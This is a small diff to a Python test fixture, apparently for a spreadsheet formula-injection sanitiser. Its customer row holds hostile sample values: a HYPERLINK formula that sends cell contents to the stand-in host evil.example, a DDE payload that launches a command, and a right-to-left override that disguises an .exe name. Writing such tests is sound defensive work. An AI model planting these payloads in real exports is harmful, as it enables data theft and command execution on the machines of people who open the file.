@@ -70,7 +70,7 @@ def accepted_rows() -> dict[str, list[dict[str, Any]]]:
             {
                 "external_id": CUSTOMER,
                 "name": '=HYPERLINK("http://evil.example/?"&A1,"Click") \U0001f355',
-                "primary_email": "=1+2@sec.example.com",
+                "primary_email": "=2+3@sec.example.com",  # one email, one identity
                 "address_line1": "+1+1 Main St \u202egnp.exe",
                 "address_line2": "-2+3+cmd|' /C calc'!A0",
                 "city": "@Spring\u200dfield",
